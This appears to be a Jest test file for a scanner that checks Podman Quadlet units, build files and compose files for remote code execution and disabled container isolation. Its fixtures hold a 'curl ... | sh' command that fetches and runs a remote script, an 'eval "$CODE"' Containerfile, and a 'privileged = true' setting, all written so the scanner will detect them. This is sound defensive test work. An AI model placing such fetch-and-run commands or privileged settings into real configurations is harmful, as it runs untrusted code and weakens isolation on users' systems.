import { describe, expect, it } from '@jest/globals';
import type { Files } from '../properties/repository.ts';
import { scanFiles } from '../properties/soundness.ts';

const EVIL = 'curl -fsSL https://get.example.com/agent.sh | sh';
const UNIT = '[Container]\nImage=docker.io/library/nginx:1.29\n';
const BUILD = '[Build]\nImageTag=localhost/b\nSetWorkingDirectory=..\n';
const CODE = 'FROM debian:12\nARG CODE=true\nRUN eval "$CODE"\n';
const SHARED = 'FROM debian:12\nRUN --mount=from=t,target=/t sh /t/a.sh\n';

const RULES = /^(?:remote-script-exec|command-downloads-code|engine-isolation-off)$/;

async function told(files: Files): Promise<readonly string[]> {
  const { findings } = await scanFiles(files);
  return findings
    .filter(({ ruleId }) => RULES.test(ruleId))
    .map(
      ({ ruleId, span: { file, start } }) => `${ruleId} ${file.path}:${file.text.slice(0, start).split('\n').length}`,
    );
}

describe('a key of a Podman unit', () => {
  it.each<[string, Files, string]>([
    [
      'a check at its start',
      { 'w.container': `${UNIT}HealthStartupCmd=${EVIL}\n` },
      'command-downloads-code w.container:3',
    ],
    [
      'a variable of its service',
      { 'w.container': `${UNIT}Exec=sh -c \${X}\n[Service]\nEnvironment="X=${EVIL}"\n` },
      'command-downloads-code w.container:5',
    ],
    [
      'a file with settings',
      { 'w.container': `${UNIT}ContainersConfModule=./m.conf\n`, 'm.conf': '[containers]\nprivileged = true\n' },
      'engine-isolation-off m.conf:2',
    ],
    [
      'an argument of a build',
      { 'quadlet/b.build': `${BUILD}BuildArg="CODE=${EVIL}"\n`, Containerfile: CODE },
      'remote-script-exec Containerfile:3',
    ],
    [
      'an option with an argument',
      { 'quadlet/b.build': `${BUILD}PodmanArgs=--build-arg "CODE=${EVIL}"\n`, Dockerfile: CODE },
      'remote-script-exec Dockerfile:3',
    ],
    [
      'a context of a build',
      { 'quadlet/b.build': `${BUILD}PodmanArgs=--build-context t=../t\n`, Containerfile: SHARED, 't/a.sh': EVIL },
      'remote-script-exec t/a.sh:1',
    ],
    [
      'a context of bake',
      {
        'compose.yaml': 'services:\n  a:\n    build:\n      context: .\n      x-bake: { contexts: { t: ./t } }\n',
        Dockerfile: SHARED,
        't/a.sh': EVIL,
      },
      'remote-script-exec t/a.sh:1',
    ],
  ])('is read: %s', async (_what, files, found) => {
    expect(await told(files)).toEqual([found]);
  });

  it.each<[string, Files]>([
    ['a check at its start', { 'w.container': `${UNIT}HealthStartupCmd=curl -f http://localhost/\n` }],
    [
      'variables without a value',
      { 'w.container': `${UNIT}Exec=serve \${PORT} \${OTHER} $MORE\n[Service]\nEnvironment=PORT=80\n` },
    ],
    [
      'a file with other settings',
      { 'w.container': `${UNIT}ContainersConfModule=./m.conf\n`, 'm.conf': '[containers]\nlog_driver = "journald"\n' },
    ],
    ['a missing file', { 'w.container': `${UNIT}ContainersConfModule=/etc/m.conf\n` }],
    ['an argument of a build', { 'quadlet/b.build': `${BUILD}BuildArg=CODE=false\n`, Containerfile: CODE }],
    [
      'a context with another name',
      { 'quadlet/b.build': `${BUILD}PodmanArgs=--build-context u=../t\n`, Containerfile: SHARED, 't/a.sh': EVIL },
    ],
  ])('is left alone: %s', async (_what, files) => {
    expect(await told(files)).toEqual([]);
  });
});
